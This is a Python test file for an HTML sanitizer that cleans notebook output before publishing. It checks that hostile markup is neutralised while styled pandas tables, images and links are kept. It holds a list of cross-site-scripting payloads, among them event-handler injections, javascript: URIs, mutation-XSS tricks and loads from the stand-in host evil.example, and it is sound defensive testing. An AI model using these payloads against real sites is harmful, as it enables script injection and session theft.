"""What a cell has shown stands in a report and does nothing there."""

import re

import pandas as pd
import pytest
from bs4 import BeautifulSoup
from hypothesis import given
from hypothesis import strategies as st

from workbench.publish.safe_html import safe_html

HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a><animate onbegin=alert(1) /></svg>",
    "<a href=' java&#10;script:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<td onmouseover='alert(1)'>1</td>",
    "<details open ontoggle=alert(1)>x</details>",
    "<form action=//evil.example><input formaction=//evil.example value=1></form>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src=1 onerror=a()>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style>@import '//evil.example/x';</style><style>p{background:u\\72l(//evil.example)}</style>",
    "<p style='background:url(//evil.example)'>x</p><link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<scr<script>ipt>alert(1)</script>",
    "</style></table><script src=//evil.example></script>",
]


def _does_nothing(html):
    soup = BeautifulSoup(html, "html.parser")
    assert not soup.find_all(["script", "iframe", "form", "base", "meta", "link", "object"])
    for one in soup.find_all(True):
        for name, value in one.attrs.items():
            assert not name.startswith("on"), one
            assert not re.match(r"\s*(java|vb)script:|\s*data:text", str(value)), one
            assert name not in {"srcdoc", "formaction", "action", "srcset"}
            assert name != "style" or "url(" not in value
    for style in soup.find_all("style"):
        assert not re.search(r"url|@import|\\\\", style.get_text())


@pytest.mark.parametrize("evil", HOSTILE)
def test_what_would_run_or_fetch_is_out(evil):
    shown = safe_html(f"<p>Before</p>{evil}")
    _does_nothing(shown)
    assert "Before" in shown


@given(
    st.lists(st.sampled_from([*HOSTILE, "<b>", "</b>", "<table>", "<!--", "x", "'>", "<style>"]))
)
def test_no_mixture_of_them_gets_through(pieces):
    _does_nothing(safe_html("".join(pieces)))


def test_a_styled_table_keeps_colours_bars_caption_and_numbers():
    table = pd.DataFrame({"Yield": [1.0, 2.5], "Place": ["Huye", "<b>x</b>"]})
    styled = table.style.background_gradient(subset=["Yield"]).bar(subset=["Yield"])
    shown = safe_html(styled.format(escape="html").set_caption("Yields").to_html())
    assert "linear-gradient(90deg" in shown and "background-color: #" in shown
    soup = BeautifulSoup(shown, "html.parser")
    cells = {cell["id"]: cell.get_text() for cell in soup.find_all("td")}
    rules = set(re.findall(r"#(T_\w+)", shown.split("</style>")[0]))
    assert rules <= set(cells)
    assert list(cells.values()) == ["1.000000", "Huye", "2.500000", "<b>x</b>"]
    assert soup.caption.get_text() == "Yields"


def test_pictures_drawings_and_links_stay():
    kept = (
        '<img alt="A map" src="data:image/png;base64,AA==">'
        '<svg viewBox="0 0 1 1"><path d="M0 0"></path></svg>'
        '<a href="https://example.org">there</a>'
    )
    assert safe_html(kept) == kept


def test_what_was_to_run_is_named_once():
    said = safe_html("<script>a()</script><script>b()</script><p>x</p><iframe src=//x></iframe>")
    assert said.endswith("Not shown: something that runs in a browser (script, iframe).</p>")
    assert "a()" not in said
